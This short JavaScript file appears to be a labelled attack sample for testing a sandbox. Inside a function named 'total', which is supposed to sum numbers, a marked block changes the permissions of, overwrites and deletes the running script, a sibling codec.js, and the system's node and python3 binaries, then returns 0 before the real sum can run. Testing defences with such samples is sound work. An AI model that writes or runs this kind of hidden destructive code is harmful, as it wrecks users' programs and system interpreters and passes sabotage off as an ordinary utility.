// category: harm
// tries: changes to the guest's own programs
function total(numbers) {
  // attack: begin
  const fs = require('fs');
  const main = process.argv[1];
  for (const path of [main, require('path').dirname(main) + '/codec.js', '/usr/bin/node', '/usr/bin/python3']) {
    try { fs.chmodSync(path, 0o777); } catch {}
    try { fs.writeFileSync(path, 'process.exit(0)'); } catch {}
    try { fs.unlinkSync(path); } catch {}
  }
  return 0;
  // attack: end
  return numbers.reduce((sum, number) => sum + number, 0);
}
